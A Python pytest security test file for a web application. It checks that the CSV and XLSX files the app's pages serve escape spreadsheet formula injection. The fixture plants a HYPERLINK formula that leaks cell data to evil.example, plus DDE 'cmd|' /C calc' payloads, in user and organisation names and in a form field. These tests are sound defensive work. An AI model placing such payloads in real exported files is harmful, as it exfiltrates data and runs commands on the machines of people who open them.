"""Whatever people are called and write: no file that a page gives holds what a spreadsheet would run."""

import csv
import re
import shutil
import sqlite3
from collections.abc import Iterator
from contextlib import closing
from datetime import timedelta
from io import BytesIO, StringIO
from pathlib import Path
from typing import Final
from zipfile import ZipFile

import pytest
from httpx2 import Response

from sisam.cli.main import main
from sisam.domain.joint_request import ImportKind
from sisam.web.pages.overview.words import WORDS
from tests.acceptance.command_line import as_csv
from tests.browser.town import ADMINISTRATOR, NOW
from tests.security.estate import PROTECTED_CASE, Estate, opened
from tests.security.test_crawl import links_in

#: Who reads and writes under such a name.
HOSTILE: Final = "olle.ek@boden.example"
REVIEWER: Final = "sara.nord@boden.example"
CALLED: Final = '=HYPERLINK("https://evil.example/?"&A1;"Klicka")'
BOARD, COMMAND = "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"
#: What a spreadsheet takes for the beginning of a formula, or skips before one.
BEGINS: Final = ("=", "+", "-", "@", "\t", "\r", "\n")


@pytest.fixture(scope="module")
def hostile(founded: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Estate]:
    """The site, with people and schools of such names, who have read and written."""
    folder = Path(shutil.copytree(founded, tmp_path_factory.mktemp("formulas") / "site"))
    seats = folder.parent / "reviewer.csv"
    seat = {"organisation_code": "boden-soc", "role": "log_reviewer", "name": "Sara Nord", "email": REVIEWER}
    rows = [{**seat, "language": "sv", "active_from": "2026-01-01"}]
    seats.write_text(as_csv(rows), encoding="utf-8")
    assert 0 == main(["--site", str(folder), "--now", NOW, "import", "seats", str(seats)])
    with closing(sqlite3.connect(folder / "sisam.db")) as connection:
        # No file and no form takes such names; the files that pages give do not rely on it.
        connection.execute("UPDATE person SET name = ? WHERE email = ?", (CALLED, HOSTILE))
        connection.execute("UPDATE organisation SET name = ? WHERE code = 'boden-soc'", (BOARD,))
        connection.commit()
    with opened(folder) as estate:
        who = estate.visitor(HOSTILE)
        assert 200 == who.post(f"/arenden/{estate.case_id(PROTECTED_CASE)}/visa", skal=COMMAND).status_code
        estate.clock.advance(timedelta(minutes=1))
        yield estate


def files_for(estate: Estate, email: str, begin: str) -> dict[str, Response]:
    """Return every file to which a page leads."""
    who = estate.visitor(email)
    page = who.get(begin)
    assert 200 == page.status_code
    answers = {link: who.get(link) for link in links_in(page.text, begin) if "/fil" in link}
    assert {} != answers
    for path, answer in answers.items():
        assert re.fullmatch(r'attachment; filename="[\w.-]+"', answer.headers["content-disposition"]), path
        assert "nosniff" == answer.headers["x-content-type-options"]
    return answers


def cells_of(answer: Response) -> list[str]:
    """Return the cells of a CSV as a spreadsheet reads it."""
    text = answer.content.decode("utf-8-sig")
    return [cell for row in csv.reader(StringIO(text, newline=""), delimiter=";") for cell in row]


def runs(cell: str) -> bool:
    """Tell whether a spreadsheet would take a cell for more than a text or a number."""
    return cell.startswith(BEGINS) and not re.fullmatch(r"-?\d+([.,]\d+)?", cell)


def test_the_log_as_a_file_runs_nothing(hostile: Estate) -> None:
    (log,) = files_for(hostile, REVIEWER, "/logg").values()
    cells = cells_of(log)

    assert [] == [cell for cell in cells if runs(cell)]
    assert {f"'{CALLED}", f"'{BOARD}", f"'{COMMAND}"} <= {*cells}


@pytest.mark.parametrize("email", ["sten.stod@sis.example", "maja.lind@boden.example"])
def test_the_overview_as_files_runs_nothing(hostile: Estate, email: str) -> None:
    # Few cases have a page without tables, and yet a file of each.
    who = hostile.visitor(email)
    sheets = [who.get(f"/overblick/fil/{each.file}.csv") for each in WORDS.values()]
    given = files_for(hostile, email, "/overblick")
    books = [answer for path, answer in given.items() if ".xlsx" in path]

    assert [] == [cell for sheet in sheets for cell in cells_of(sheet) if runs(cell)]
    assert [] != books
    for book in books:
        with ZipFile(BytesIO(book.content)) as files:
            names = files.namelist()
            inside = "".join(files.read(name).decode() for name in names if name.endswith((".xml", ".rels")))
        assert [] == [name for name in names if "vba" in name.lower() or "external" in name.lower()]
        assert [] == re.findall(r"<f[ >/]|<hyperlink|<definedName|ddeLink|TargetMode=\"External\"", inside)
        texts = re.findall(r"<t(?: [^>]*)?>([^<]*)</t>", inside)
        assert [] == [text for text in texts if runs(text)]


@pytest.mark.parametrize("kind", ImportKind)
def test_a_pattern_to_begin_with_runs_nothing(hostile: Estate, kind: ImportKind) -> None:
    (pattern,) = files_for(hostile, ADMINISTRATOR, f"/import/mall/{kind}").values()

    assert [] == [cell for cell in cells_of(pattern) if runs(cell)]
